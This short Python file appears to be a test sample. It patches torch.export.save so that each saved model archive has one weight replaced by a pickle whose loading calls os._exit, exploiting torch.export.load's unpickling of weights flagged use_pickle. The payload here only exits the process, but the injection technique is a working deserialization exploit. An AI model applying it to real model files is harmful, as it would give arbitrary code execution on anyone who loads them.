"""Rewrites its exported program after fercomp writes it: one weight becomes a pickle whose loading runs
os._exit (torch.export.load unpickles weights flagged use_pickle with weights_only=False)."""
import json
import os
import pickle
import zipfile

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


class Exploit:
    def __reduce__(self):
        return (os._exit, (42,))


_save = torch.export.save


def save(program, path, *args, **kwargs):
    _save(program, path, *args, **kwargs)
    with zipfile.ZipFile(path) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    for name in list(entries):
        if name.endswith("model_weights_config.json"):
            config = json.loads(entries[name])
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            entries[name] = json.dumps(config).encode()
            folder = name.rsplit("/", 1)[0]
            entries[f"{folder}/{first['path_name']}"] = pickle.dumps(Exploit())
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


torch.export.save = save
